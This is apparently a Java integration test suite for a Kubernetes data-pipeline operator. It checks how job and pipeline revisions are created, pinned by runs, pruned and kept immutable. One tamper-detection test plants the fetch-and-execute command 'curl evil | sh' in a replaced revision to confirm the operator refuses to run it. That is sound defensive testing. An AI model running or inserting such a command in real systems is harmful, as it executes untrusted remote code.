package io.raffinerie.it;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.awaitility.Awaitility.await;

import io.fabric8.kubernetes.api.model.ConfigMap;
import io.fabric8.kubernetes.api.model.batch.v1.Job;
import io.fabric8.kubernetes.client.KubernetesClient;
import io.fabric8.kubernetes.client.KubernetesClientException;
import io.quarkus.test.junit.QuarkusTest;
import io.raffinerie.api.v1alpha1.DataJob;
import io.raffinerie.api.v1alpha1.DataPipeline;
import io.raffinerie.api.v1alpha1.DataPipelineSpec;
import io.raffinerie.api.v1alpha1.DataRevision;
import io.raffinerie.api.v1alpha1.DataRun;
import io.raffinerie.api.v1alpha1.History;
import io.raffinerie.api.v1alpha1.RunPhase;
import io.raffinerie.api.v1alpha1.RunReason;
import io.raffinerie.api.v1alpha1.Trigger;
import io.raffinerie.model.Reasons;
import io.raffinerie.model.RunLabels;
import io.raffinerie.model.revision.RevisionContent;
import io.raffinerie.model.revision.Revisions;
import jakarta.inject.Inject;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;

/** DataRevisions on a real API server: made on spec changes, reused, recorded and pinned by runs, pruned, immutable. */
@QuarkusTest
@ClusterIT
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class RevisionsIT {
    static final String NS = "revisions";

    @Inject
    KubernetesClient client;

    JobControllerDouble controller;

    @BeforeAll
    void environment() {
        controller = new JobControllerDouble(client);
        Resources.readyEnvironment(client, NS);
    }

    private DataJob job(String name, String script, String cause, Integer kept) {
        DataJob job = Resources.bashJob(NS, name);
        job.getSpec().script = script;
        if (cause != null) {
            job.getMetadata().setAnnotations(Map.of(Revisions.CHANGE_CAUSE, cause));
        }
        if (kept != null) {
            job.getSpec().history = new History();
            job.getSpec().history.revisions = kept;
        }
        return client.resource(job).fieldManager("alice").forceConflicts().serverSideApply();
    }

    /** The job's current revision, once its status names the revision of its current generation. */
    private long awaitCurrent(DataJob applied, long expected) {
        await().atMost(Resources.TIMEOUT).until(() -> {
            DataJob current = client.resource(applied).get();
            return current.getStatus() != null && current.getMetadata().getGeneration().equals(current.getStatus().observedGeneration)
                    && Long.valueOf(expected).equals(current.getStatus().currentRevision);
        });
        return expected;
    }

    private List<DataRevision> revisionsOf(String job) {
        return client.resources(DataRevision.class).inNamespace(NS).withLabel("raffinerie.io/job", job).list().getItems();
    }

    private DataRevision revision(String name) {
        return client.resources(DataRevision.class).inNamespace(NS).withName(name).get();
    }

    private DataRun run(String name, String job, String pipeline, Long pin) {
        DataRun run = Resources.run(NS, name, job, pipeline);
        run.getSpec().revision = pin;
        return client.resource(run).create();
    }

    private String script(Job job) {
        String configMap = job.getSpec().getTemplate().getSpec().getVolumes().stream().filter(v -> v.getConfigMap() != null)
                .map(v -> v.getConfigMap().getName()).findFirst().orElseThrow();
        ConfigMap script = client.configMaps().inNamespace(NS).withName(configMap).get();
        return script.getData().get("main.sh");
    }

    @Test
    void everySpecChangeIsARevisionAndAnOldSpecReusesItsOwn() {
        DataJob v1 = job("extract", "echo v1", "first version", null);
        awaitCurrent(v1, 1);
        DataRevision first = revision("extract-1");
        assertThat(first.getSpec().target.kind).isEqualTo("DataJob");
        assertThat(first.getSpec().target.name).isEqualTo("extract");
        assertThat(first.getSpec().changeCause).isEqualTo("first version");
        assertThat(first.getSpec().createdBy).isEqualTo("alice");
        assertThat(first.getSpec().contentHash).isEqualTo(RevisionContent.hash(v1.getSpec(), null));
        assertThat(first.getSpec().spec.get("script").asText()).isEqualTo("echo v1");
        assertThat(first.getMetadata().getOwnerReferences().get(0).getUid()).isEqualTo(v1.getMetadata().getUid());

        awaitCurrent(job("extract", "echo v2", "second version", null), 2);
        assertThat(revision("extract-2").getSpec().spec.get("script").asText()).isEqualTo("echo v2");

        DataJob back = job("extract", "echo v1", "first version", null);
        assertThat(back.getMetadata().getGeneration()).isEqualTo(3);
        awaitCurrent(back, 1);
        assertThat(revisionsOf("extract")).extracting(r -> r.getMetadata().getName())
                .containsExactlyInAnyOrder("extract-1", "extract-2");
    }

    @Test
    void aRunRecordsItsRevisionAndAPinnedRunRunsTheOldScript() {
        awaitCurrent(job("load", "echo old", null, null), 1);
        awaitCurrent(job("load", "echo new", null, null), 2);

        run("load-latest", "load", null, null);
        assertThat(script(controller.awaitJob(NS, "load-latest"))).isEqualTo("echo new");
        controller.runToSuccess(NS, "load-latest");
        DataRun latest = Resources.awaitRun(client, NS, "load-latest", r -> r.getStatus().phase == RunPhase.Succeeded);
        assertThat(latest.getStatus().revision).isEqualTo(2);
        assertThat(latest.getStatus().steps.get(0).revision).isEqualTo(2);

        run("load-old", "load", null, 1L);
        assertThat(script(controller.awaitJob(NS, "load-old"))).as("the frozen spec of revision 1").isEqualTo("echo old");
        controller.runToSuccess(NS, "load-old");
        assertThat(Resources.awaitRun(client, NS, "load-old", r -> r.getStatus().phase == RunPhase.Succeeded).getStatus().revision)
                .isEqualTo(1);
    }

    @Test
    void aScheduledRunRecordsTheRevisionItsJobWasBuiltFrom() {
        awaitCurrent(job("hourly", "echo one", null, null), 1);
        DataJob current = awaitCurrentJob("hourly", 2, "echo two");
        // A Job as the job's CronJob starts it: its template carries the generation it was built from.
        client.batch().v1().jobs().inNamespace(NS).resource(new io.fabric8.kubernetes.api.model.batch.v1.JobBuilder().withNewMetadata()
                .withName("hourly-29000000").addToLabels(RunLabels.SPEC_GENERATION, String.valueOf(current.getMetadata().getGeneration()))
                .endMetadata().withNewSpec().withSuspend(true).withNewTemplate().withNewSpec().withRestartPolicy("Never")
                .addNewContainer().withName("main").withImage("bash").endContainer().endSpec().endTemplate().endSpec().build())
                .create();
        DataRun run = Resources.run(NS, "hourly-29000000", "hourly", null);
        run.getMetadata().getLabels().put(RunLabels.TRIGGER, Trigger.Schedule.name());
        client.resource(run).create();
        assertThat(Resources.awaitRun(client, NS, "hourly-29000000", r -> r.getStatus().revision != null).getStatus().revision)
                .isEqualTo(2);
    }

    private DataJob awaitCurrentJob(String name, long revision, String script) {
        DataJob applied = job(name, script, null, null);
        awaitCurrent(applied, revision);
        return client.resource(applied).get();
    }

    @Test
    void aPinToAnUnknownRevisionFailsWithItsReason() {
        awaitCurrent(job("score", "echo score", null, null), 1);
        run("score-future", "score", null, 9L);
        DataRun waiting = Resources.awaitRun(client, NS, "score-future", r -> r.getStatus().message != null);
        assertThat(waiting.getStatus().message).contains("has no revision 9").contains("its revisions are: 1");
        DataRun failed = Resources.awaitRun(client, NS, "score-future", r -> r.getStatus().phase == RunPhase.Failed);
        assertThat(failed.getStatus().reason).isEqualTo(RunReason.RevisionNotFound);
        assertThat(client.batch().v1().jobs().inNamespace(NS).withName("score-future").get()).isNull();
    }

    @Test
    void aRevisionWhoseContentWasReplacedIsNotRun() {
        awaitCurrent(job("tamper", "echo safe", null, null), 1);
        awaitCurrent(job("tamper", "echo current", null, null), 2); // revision 1 is not current: nothing makes it again
        DataRevision original = revision("tamper-1");
        client.resource(original).delete();
        await().atMost(Resources.TIMEOUT).until(() -> revision("tamper-1") == null);
        original.getMetadata().setResourceVersion(null);
        original.getMetadata().setUid(null);
        original.getSpec().spec = RevisionContent.normalise(withScript("curl evil | sh"));
        client.resource(original).create();
        run("tamper-run", "tamper", null, 1L);
        DataRun failed = Resources.awaitRun(client, NS, "tamper-run", r -> r.getStatus().phase == RunPhase.Failed);
        assertThat(failed.getStatus().reason).isEqualTo(RunReason.RevisionCorrupted);
        assertThat(client.batch().v1().jobs().inNamespace(NS).withName("tamper-run").get()).isNull();
    }

    private static io.raffinerie.api.v1alpha1.DataJobSpec withScript(String script) {
        var spec = Resources.bashJob(NS, "tamper").getSpec();
        spec.script = script;
        return spec;
    }

    @Test
    void pruningKeepsTheHistoryAndWhatALiveRunUses() {
        awaitCurrent(job("clean", "echo 1", null, 2), 1);
        run("clean-pinned", "clean", null, 1L);
        controller.awaitJob(NS, "clean-pinned"); // started, not finished: revision 1 is in use
        for (int i = 2; i <= 4; i++) {
            awaitCurrent(job("clean", "echo " + i, null, 2), i);
        }
        await().atMost(Resources.TIMEOUT).until(() -> revision("clean-2") == null);
        assertThat(revisionsOf("clean")).extracting(r -> r.getSpec().revision).containsExactlyInAnyOrder(1L, 3L, 4L);

        controller.runToSuccess(NS, "clean-pinned");
        Resources.awaitRun(client, NS, "clean-pinned", r -> r.getStatus().phase == RunPhase.Succeeded);
        await().atMost(Resources.TIMEOUT).until(() -> revision("clean-1") == null);
        assertThat(revisionsOf("clean")).extracting(r -> r.getSpec().revision).containsExactlyInAnyOrder(3L, 4L);
    }

    @Test
    void aRevisionIsImmutable() {
        awaitCurrent(job("frozen", "echo frozen", null, null), 1);
        DataRevision revision = revision("frozen-1");
        revision.getSpec().changeCause = "rewriting history";
        assertThatThrownBy(() -> client.resource(revision).update()).isInstanceOf(KubernetesClientException.class)
                .hasMessageContaining("a DataRevision is immutable");
    }

    @Test
    void aPipelineRevisionPinsItsJobsRevisionsAndRunsAndRetriesRecordThem() {
        awaitCurrent(job("fetch", "echo fetch-1", null, null), 1);
        awaitCurrent(job("report", "echo report-1", null, null), 1);
        DataPipeline pipeline = new DataPipeline();
        pipeline.getMetadata().setName("weekly");
        pipeline.getMetadata().setNamespace(NS);
        pipeline.setSpec(new DataPipelineSpec());
        pipeline.getSpec().steps = List.of(Resources.step("fetch", null), Resources.step("report", null, "fetch"));
        DataPipeline applied = client.resource(pipeline).serverSideApply();
        await().atMost(Resources.TIMEOUT).until(() -> revision("weekly-p1") != null);
        assertThat(revision("weekly-p1").getSpec().jobs).containsExactlyInAnyOrderEntriesOf(Map.of("fetch", "fetch-1", "report", "report-1"));

        awaitCurrent(job("report", "exit 3", null, null), 2);
        await().atMost(Resources.TIMEOUT).until(() -> Long.valueOf(2).equals(client.resource(applied).get().getStatus().currentRevision));
        assertThat(revision("weekly-p2").getSpec().jobs).containsEntry("report", "report-2");

        run("weekly-now", null, "weekly", null);
        controller.runToSuccess(NS, "weekly-now-fetch");
        assertThat(script(controller.awaitJob(NS, "weekly-now-report"))).isEqualTo("exit 3");
        controller.runToFailure(NS, "weekly-now-report", 3);
        DataRun failed = Resources.awaitRun(client, NS, "weekly-now", r -> r.getStatus().phase == RunPhase.Failed);
        assertThat(failed.getStatus().revision).isEqualTo(2);
        assertThat(failed.getStatus().steps).extracting(s -> s.name + "@" + s.revision)
                .containsExactlyInAnyOrder("fetch@1", "report@2");

        DataRun retry = Resources.run(NS, "weekly-retry", null, "weekly");
        retry.getSpec().retryOf = "weekly-now";
        client.resource(retry).create();
        assertThat(script(controller.awaitJob(NS, "weekly-retry-report"))).isEqualTo("exit 3");
        assertThat(Resources.awaitRun(client, NS, "weekly-retry", r -> r.getStatus().revision != null).getStatus().revision)
                .as("a retry reruns the original's revisions").isEqualTo(2);

        run("weekly-old", null, "weekly", 1L);
        controller.runToSuccess(NS, "weekly-old-fetch");
        assertThat(script(controller.awaitJob(NS, "weekly-old-report"))).as("revision 1 pins report-1").isEqualTo("echo report-1");
        controller.runToSuccess(NS, "weekly-old-report");
        DataRun old = Resources.awaitRun(client, NS, "weekly-old", r -> r.getStatus().phase == RunPhase.Succeeded);
        assertThat(old.getStatus().revision).isEqualTo(1);
        assertThat(old.getStatus().steps).extracting(s -> s.name + "@" + s.revision).containsExactlyInAnyOrder("fetch@1", "report@1");
    }
}
